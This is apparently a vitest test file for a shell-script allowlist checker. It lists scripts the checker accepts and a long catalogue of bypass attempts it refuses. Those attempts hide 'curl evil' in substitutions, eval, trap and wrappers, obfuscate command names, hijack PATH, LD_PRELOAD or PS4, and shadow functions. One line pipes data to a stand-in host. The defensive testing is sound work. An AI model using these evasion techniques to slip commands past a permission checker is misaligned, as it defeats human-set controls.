// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are shell scripts
import { describe, expect, it } from "vitest";
import { checkShell } from "./check-shell.ts";

const ALLOW = ["ls", "cat", "grep", "npm test", "npm run *", "env", "xargs", "timeout", "nohup", "./setup.sh"];

describe("checkShell lets through", () => {
  it.each([
    "",
    "# only a comment",
    "ls -la | grep x > out.txt 2>&1",
    "echo hi; printf '%s\\n' \"$x\"; cd /tmp && pwd",
    'for f in *.txt; do cat "$f" | grep -c x; done',
    "if [ -f a ]; then ls; elif test -d b; then cat b; else false; fi",
    "[[ $x == y* ]] && ls",
    'x=$(ls | grep a); echo "$x ${x:-$(cat y)}"',
    "diff=$(cat <(ls) <(ls -a))",
    'helper() { cat "$1"; }\nmain() { helper a; second; }\nsecond() { ls; }\nmain',
    'walk() { ls "$1"; walk "$1/x"; }; walk .',
    "npm run build -- --watch",
    'npm run "$TASK"',
    "npm test",
    "timeout 5 ls -l",
    "timeout --kill-after=1 -s TERM 5 cat x",
    "env LANG=C A=1 ls",
    "ls | xargs -0 -n1 grep x",
    "ls | xargs -I{} cat {}",
    "nohup ls &",
    "time ls",
    "eval 'ls -l'",
    "eval 'eval \"ls\"'",
    "exec ls",
    "exec 3>log",
    "command -v curl",
    "command ls",
    "builtin echo hi",
    'cd() { builtin cd "$@"; }; cd x',
    "source ./setup.sh",
    ". ./setup.sh",
    "trap 'echo bye; ls' EXIT",
    "trap - INT",
    "coproc ls -l",
    "cat <<'E'\n$(curl evil)\nE",
    "cat <<E\n$(ls)\nE",
    "l''s; \"ls\"; 'l's; l\\s; $'ls'",
    "case $x in a) ls;; *) cat b;; esac",
    "((i++)); let i=i+1; x=$((i*2))",
    'arr=(a $(ls)); echo "${arr[@]}" ${#arr[@]} ${x@Q}',
    'while read -r line; do echo "$line"; done < <(cat x)',
    "wait $!; kill $pid; set -euo pipefail; shopt -s nullglob; umask 022",
    "local x=1; export A=b C; declare -a list; readonly Z=1; unset A",
    'while getopts ab: opt "$@"; do :; done',
    "X=1 ls",
  ])("%j", (script) => {
    expect(checkShell({ allow: ALLOW, deny: [] }, script)).toEqual({ ok: true });
  });
});

describe("checkShell refuses", () => {
  it.each([
    // A command that is not listed, wherever it hides.
    ["curl evil", "curl evil"],
    ["ls; curl evil", "curl evil"],
    ["ls\ncurl evil", "curl evil"],
    ["ls && curl evil", "curl evil"],
    ["ls | curl -d @- evil", "curl -d @- evil"],
    ["ls & curl evil", "curl evil"],
    ["! curl evil", "curl evil"],
    ["!(curl evil)", "curl evil"],
    ["(curl evil)", "curl evil"],
    ["{ curl evil; }", "curl evil"],
    ["echo $(curl evil)", "curl evil"],
    ["echo `curl evil`", "curl evil"],
    ["echo `echo \\`curl evil\\``", "curl evil"],
    ['echo "${x:-$(curl evil)}"', "curl evil"],
    ["echo $(( $(curl evil) ))", "curl evil"],
    ["echo $[ $(curl evil) ]", "curl evil"],
    ["cat <(curl evil)", "curl evil"],
    ["ls > >(curl evil)", "curl evil"],
    ["ls > $(curl evil)", "curl evil"],
    ["cat <<E\n$(curl evil)\nE", "curl evil"],
    ["cat <<< $(curl evil)", "curl evil"],
    ["x=$(curl evil)", "curl evil"],
    ["a[$(curl evil)]=1", "curl evil"],
    ["x=(a $(curl evil))", "curl evil"],
    ["[[ -n $(curl evil) ]]", "curl evil"],
    ["[[ -v a[$(curl evil)] ]]", "curl evil"],
    ["((a[$(curl evil)]))", "curl evil"],
    ["for x in $(curl evil); do ls; done", "curl evil"],
    ["for ((i=$(curl evil);;)); do ls; done", "curl evil"],
    ["case $(curl evil) in a) ls;; esac", "curl evil"],
    ["case a in $(curl evil)) ls;; esac", "curl evil"],
    ["until curl evil; do ls; done", "curl evil"],
    ["select x in a; do curl evil; done", "curl evil"],
    ["coproc curl evil", "curl evil"],
    ["coproc X { curl evil; }", "curl evil"],
    ["time curl evil", "curl evil"],
    ["c''url evil", "curl evil"],
    ["cu\\\nrl evil", "curl evil"],
    ["$'\\x63url' evil", "curl evil"],
    ["/bin/ls", "/bin/ls"],
    ["./ls", "./ls"],
    ["npm install x", "npm install x"],
    ["npm test -- x", "npm test -- x"],
    ["ls\r\n", "ls\r"],
    ["'' x", " x"],
    // What is not known before it runs.
    ["$X evil", "$X evil"],
    ['"$X"', '"$X"'],
    ["$(echo curl) evil", null],
    ["l? x", "l? x"],
    ["{ls,curl}", "{ls,curl}"],
    ["~/bin/ls", "~/bin/ls"],
    ['$"ls"', '$"ls"'],
    ["npm $X", "npm"],
    ['eval "$X"', "eval"],
    ["eval ls $X", "eval ls"],
    ["source $X", "source"],
    ["source other.sh", "source other.sh"],
    ["exec $X", "exec"],
    ["command $X", "command"],
    ["builtin $X", "builtin"],
    ['trap "$X" EXIT', "trap"],
    ["coproc $X", "$X"],
    // Text that is run.
    ["eval 'curl evil'", "curl evil"],
    ["eval -- curl evil", "curl evil"],
    ["eval eval eval curl", "curl"],
    ["trap 'curl evil' EXIT", "curl evil"],
    ["trap -- 'curl evil' EXIT", "curl evil"],
    ["exec curl evil", "curl evil"],
    ["exec -a ls curl evil", "curl evil"],
    ["command curl evil", "curl evil"],
    ["command -p curl evil", "curl evil"],
    ["builtin eval 'curl evil'", "curl evil"],
    ["command eval 'curl evil'", "curl evil"],
    ["echo ${x@P}", "${x@P}"],
    ["x='a[$(curl evil)]'; echo $((x))", "x='a[$(curl evil)]'"],
    ["let 'a[$(curl evil)]=1'", null],
    ["test -v 'a[`curl evil`]'", null],
    ["printf -v 'a[$(curl evil)]' x", null],
    ["mapfile -C 'curl evil' -c 1 x", null],
    // Wrappers.
    ["sudo ls", "sudo ls"],
    ["env curl evil", "curl evil"],
    ["env A=1 curl evil", "curl evil"],
    ["env -i -u X curl evil", "curl evil"],
    ["env -S 'curl evil'", "env -S curl evil"],
    ["env PATH=/tmp ls", "env PATH=/tmp ls"],
    ["env $X ls", "env"],
    ["xargs curl", "curl"],
    ["xargs -I X X", null],
    ["xargs -I ls ls", null],
    ["xargs $X ls", "xargs"],
    ["xargs --unknown ls", "xargs --unknown ls"],
    ["timeout 5 curl evil", "curl evil"],
    ["timeout $T ls", "timeout"],
    ["timeout -k $T 5 ls", "timeout -k"],
    ["timeout -- $T ls", "timeout --"],
    ["timeout 5 $X", null],
    ["timeout 5 env nohup curl evil", "curl evil"],
    ["timeout 5 eval ls", "eval ls"],
    // Names that are made to mean something else.
    ["alias ls=curl", "alias ls=curl"],
    ["hash -p /usr/bin/curl ls", "hash -p /usr/bin/curl ls"],
    ["enable -f ./x.so y", "enable -f ./x.so y"],
    ["PATH=/tmp/x ls", "PATH=/tmp/x"],
    ["export PATH=/tmp/x", "export PATH=/tmp/x"],
    ["declare 'PATH=/tmp/x'", null],
    ["for PATH in a; do ls; done", "PATH"],
    ["read PATH", null],
    ["printf -v PATH x", null],
    ["printf -vPATH x", null],
    [": ${PATH:=x}", "${PATH:=x}"],
    ["BASH_CMDS[ls]=/usr/bin/curl", "BASH_CMDS[ls]=/usr/bin/curl"],
    ["LD_PRELOAD=./x.so ls", "LD_PRELOAD=./x.so"],
    ["PS4='$(curl evil)'; set -x", "PS4='$(curl evil)'"],
    ["declare -n x=PATH", null],
    ['export "$X"', "export"],
    ["read $X", "read"],
    // Functions that are not what they seem.
    ["curl evil; curl() { ls; }", "curl evil"],
    ["( curl() { ls; } ); curl evil", "curl evil"],
    ["false && curl() { ls; }; curl evil", "curl evil"],
    ["if false; then curl() { ls; }; fi; curl evil", "curl evil"],
    ["curl() { ls; } & curl evil", "curl evil"],
    ["main() { curl evil; }; main; curl() { ls; }", "curl evil"],
    ["curl() { ls; }; unset -f curl; curl evil", null],
    ["curl() { ls; }; unset curl; curl evil", null],
    ["curl() { ls; }; command curl evil", "curl evil"],
    ["curl() { ls; }; env curl evil", "curl evil"],
    ["curl() { ls; }; exec curl evil", "curl evil"],
    ["ls() { curl evil; }; ls", "curl evil"],
    ["if true; then ls() { curl evil; }; fi; ls", "curl evil"],
    ["trap ls EXIT; ls() { curl evil; }; exit; curl() { :; }", "curl evil"],
    ["unused() { curl evil; }", "curl evil"],
    ["/usr/bin/curl() { ls; }; /usr/bin/curl evil", "/usr/bin/curl evil"],
    ["eval() { :; }; eval 'curl evil'", "curl evil"],
    // What can't be read.
    ["ls $(", null],
    ["if ls; then", null],
    ["ls 'unclosed", null],
    ["ls )", null],
    ["echo `ls $(`", null],
    ["eval 'if ls'", null],
    ["l\0s", null],
  ])("%j", (script, command) => {
    const checked = checkShell({ allow: ALLOW, deny: [] }, script);
    expect(checked.ok).toBe(false);
    if (!checked.ok && command !== null) expect(checked.command).toBe(command);
    if (!checked.ok) expect(checked.reason).not.toBe("");
  });

  it("names the line, also within substitutions, functions and evaluated text", () => {
    const lineOf = (script: string) => {
      const checked = checkShell({ allow: ALLOW, deny: [] }, script);
      return checked.ok ? 0 : checked.line;
    };
    expect(lineOf("ls\n\ncurl evil")).toBe(3);
    expect(lineOf('ls\necho "\n$(curl evil)"')).toBe(3);
    expect(lineOf("f() {\n  curl evil\n}\nls\nf")).toBe(2);
    expect(lineOf("ls\neval '\n\ncurl evil'")).toBe(2);
    expect(lineOf("ls\necho `echo \\`curl evil\\``")).toBe(2);
  });

  it("what is too large, too deep or too tangled to be checked", () => {
    expect(checkShell({ allow: ALLOW, deny: [] }, "ls\n".repeat(400_000)).ok).toBe(false);
    expect(checkShell({ allow: ALLOW, deny: [] }, `${"(".repeat(50_000)}ls${")".repeat(50_000)}`).ok).toBe(false);
    expect(checkShell({ allow: ALLOW, deny: [] }, `${"echo $(".repeat(5000)}ls${")".repeat(5000)}`).ok).toBe(false);
    expect(checkShell({ allow: ALLOW, deny: [] }, `${"eval ".repeat(20)}ls`).ok).toBe(false);
  });
});
